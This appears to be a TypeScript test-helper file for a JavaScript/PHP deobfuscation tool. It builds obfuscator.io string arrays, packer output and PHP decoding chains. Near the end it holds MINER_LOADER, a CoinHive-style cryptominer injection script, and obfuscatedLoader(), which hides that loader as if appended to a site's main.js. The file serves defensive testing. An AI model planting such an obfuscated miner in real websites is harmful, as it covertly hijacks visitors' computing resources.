// Builders of obfuscated web content for the normaliser's tests: an obfuscator.io-style string
// array (hex-escaped items, rotation by literal count or by parseInt checksum, optional base64 item
// encoding), Dean Edwards' packer, and PHP decoding chains. They mirror what those tools emit so
// the tests can make their own samples; the tests run each sample once in a node:vm sandbox to
// prove it still does what the plain code did. Not part of the build (tsconfig.build.json).
import { deflateRawSync, deflateSync } from 'node:zlib';

/** Every character as \xNN (or \uNNNN), as obfuscator.io's unicodeEscapeSequence option writes. */
export function hexEscape(s: string): string {
  return [...s]
    .map((c) => {
      const n = c.charCodeAt(0);
      return n < 0x100 ? `\\x${n.toString(16).padStart(2, '0')}` : `\\u${n.toString(16).padStart(4, '0')}`;
    })
    .join('');
}

/** obfuscator.io's base64 item encoding: percent-escape the UTF-8, then base64 with a swapped-case alphabet. */
export function obfBase64Encode(s: string): string {
  const std = Buffer.from(s, 'utf8').toString('base64').replace(/=+$/, '');
  return std.replace(/[A-Za-z]/g, (c) => (c <= 'Z' ? c.toLowerCase() : c.toUpperCase()));
}

/** The decoder obfuscator.io puts in the lookup function for its base64 encoding. */
const OBF_BASE64_DECODER = `var _0xb64=function(_0xs){var _0xabc='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';var _0xo='',_0xu='';for(var _0xq=0x0,_0xr,_0xt,_0xi=0x0;_0xt=_0xs['charAt'](_0xi++);~_0xt&&(_0xr=_0xq%0x4?_0xr*0x40+_0xt:_0xt,_0xq++%0x4)?_0xo+=String['fromCharCode'](0xff&_0xr>>(-0x2*_0xq&0x6)):0x0){_0xt=_0xabc['indexOf'](_0xt);}for(var _0xj=0x0,_0xl=_0xo['length'];_0xj<_0xl;_0xj++){_0xu+='%'+('00'+_0xo['charCodeAt'](_0xj)['toString'](0x10))['slice'](-0x2);}return decodeURIComponent(_0xu);};`;

export interface StringArrayOptions {
  /** 'checksum': the parseInt rotation check of obfuscator.io 2.x; 'literal': the older count loop. */
  style: 'checksum' | 'literal';
  /** How far the IIFE rotates the array back into order. */
  rotation: number;
  encoding?: 'none' | 'base64';
  /** Index offset the lookup subtracts. */
  offset?: number;
}

/**
 * Moves every single-quoted string of `code` into a rotated array and replaces it with a lookup
 * call, as obfuscator.io does; `code` must quote all its strings with ' and hold no \ escapes.
 */
export function obfuscateStrings(code: string, opts: StringArrayOptions): string {
  const strings: string[] = [];
  const offset = opts.offset ?? 0x1a4;
  const body = code.replace(/'([^'\\]*)'/g, (_m, s: string) => {
    let i = strings.indexOf(s);
    if (i < 0) i = strings.push(s) - 1;
    return `_0x5e6f(0x${(i + offset).toString(16)})`;
  });
  // Filler items with leading digits: what the checksum's parseInt calls read. Their numbers make
  // the checksum a positive integer, as obfuscator.io's are.
  const fillers = ['9352700rTmbQA', '24hGkVtu', '87342xPzLsv', '60oYfeQd', '50DzWcEu', '90360sNtrPm'];
  const ordered = [...strings, ...fillers];
  const n = ordered.length;
  const stored = ordered.map((_, j) => ordered[(j - (opts.rotation % n) + n) % n] as string);
  const enc = (s: string) => (opts.encoding === 'base64' ? obfBase64Encode(s) : s);
  const items = stored.map((s) => `'${hexEscape(enc(s))}'`).join(',');
  const decode = opts.encoding === 'base64' ? `${OBF_BASE64_DECODER}_0x4e5f=_0xb64(_0x4e5f);` : '';
  if (opts.style === 'literal') {
    return (
      `var _0x4a2b=[${items}];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4a2b,0x${opts.rotation.toString(16)}));` +
      `var _0x5e6f=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x${offset.toString(16)};var _0x4e5f=_0x4a2b[_0x2d8f05];${decode}return _0x4e5f;};` +
      body
    );
  }
  const f = (k: number) => `_0x3(0x${(strings.length + k + offset).toString(16)})`;
  const expr = `parseInt(${f(0)})/0x1+-parseInt(${f(1)})/0x2*(parseInt(${f(2)})/0x3)+parseInt(${f(3)})/0x4+parseInt(${f(4)})/0x5*(-parseInt(${f(5)})/0x6)`;
  const num = (k: number) => parseInt(fillers[k] as string);
  const target = num(0) / 1 + (-num(1) / 2) * (num(2) / 3) + num(3) / 4 + (num(4) / 5) * (-num(5) / 6);
  if (!Number.isInteger(target) || target <= 0)
    throw new Error(`checksum ${target} is not a positive integer`);
  return (
    `function _0x1a2b(){var _0x3c4d=[${items}];_0x1a2b=function(){return _0x3c4d;};return _0x1a2b();}` +
    `function _0x5e6f(_0x7a8b,_0x9c0d){var _0x1a2b3=_0x1a2b();return _0x5e6f=function(_0x5e6f1,_0x2c3d){_0x5e6f1=_0x5e6f1-0x${offset.toString(16)};var _0x4e5f=_0x1a2b3[_0x5e6f1];${decode}return _0x4e5f;},_0x5e6f(_0x7a8b,_0x9c0d);}` +
    `(function(_0x1,_0x2){var _0x3=_0x5e6f,_0x4=_0x1();while(!![]){try{var _0x5=${expr};if(_0x5===_0x2)break;else _0x4['push'](_0x4['shift']());}catch(_0x6){_0x4['push'](_0x4['shift']());}}}(_0x1a2b,0x${target.toString(16)}));` +
    body
  );
}

const DIGITS = '0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ';

function base62(n: number): string {
  return (n < 62 ? '' : base62(Math.floor(n / 62))) + DIGITS[n % 62];
}

/** Dean Edwards' packer, base 62: words by frequency, each replaced by its index. */
export function pack(code: string): string {
  const counts = new Map<string, number>();
  for (const w of code.match(/\b\w+\b/g) ?? []) counts.set(w, (counts.get(w) ?? 0) + 1);
  const words = [...counts.keys()].sort((a, b) => (counts.get(b) ?? 0) - (counts.get(a) ?? 0));
  const index = new Map(words.map((w, i) => [w, i]));
  const payload = code
    .replace(/\b\w+\b/g, (w) => base62(index.get(w) as number))
    .replace(/[\\']/g, '\\$&')
    .replace(/\n/g, '\\n');
  const keys = words.map((w, i) => (base62(i) === w ? '' : w)).join('|');
  return (
    `eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};` +
    `if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};` +
    `while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('${payload}',62,${words.length},'${keys}'.split('|'),0,{}))`
  );
}

export function b64(s: string | Buffer): string {
  return (typeof s === 'string' ? Buffer.from(s, 'latin1') : s).toString('base64');
}

/** PHP's gzinflate input: raw deflate, as a latin1 string. */
export function gzdeflate(s: string): string {
  return deflateRawSync(Buffer.from(s, 'latin1')).toString('latin1');
}

/** PHP's gzuncompress input: zlib-wrapped deflate, as a latin1 string. */
export function gzcompress(s: string): string {
  return deflateSync(Buffer.from(s, 'latin1')).toString('latin1');
}

export function rot13(s: string): string {
  return s.replace(/[A-Za-z]/g, (c) => {
    const base = c <= 'Z' ? 65 : 97;
    return String.fromCharCode(((c.charCodeAt(0) - base + 13) % 26) + base);
  });
}

/** A minimal valid WebAssembly module exporting one function `() -> i32` under `name`. */
export function wasmExporting(name: string): Buffer {
  const n = Buffer.from(name);
  const section = (id: number, body: number[]): number[] => [id, body.length, ...body];
  return Buffer.from([
    ...[0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00],
    ...section(1, [1, 0x60, 0, 1, 0x7f]),
    ...section(3, [1, 0]),
    ...section(7, [1, n.length, ...n, 0x00, 0]),
    ...section(10, [1, 4, 0, 0x41, 0, 0x0b]),
  ]);
}

/** The CoinHive-style loader of the scenario, as a site owner would find it decoded. */
export const MINER_LOADER =
  'var s=document.createElement("script");s.src="https://coinhive.com/lib/coinhive.min.js";' +
  's.onload=function(){var m=new CoinHive.Anonymous("SITE_KEY_0123456789",{throttle:0.3});m.start();};' +
  'document.head.appendChild(s);';

/**
 * The loader as appended to a site's main.js: its text in base64, run through window.Function and
 * window.atob, with every string (the two names and the payload) moved into a hex-escaped, rotated
 * string array.
 */
export function obfuscatedLoader(opts: StringArrayOptions): string {
  const plain = `;(function(){var w=window;w['Function'](w['atob']('${b64(MINER_LOADER)}'))();})();`;
  return obfuscateStrings(plain, opts);
}
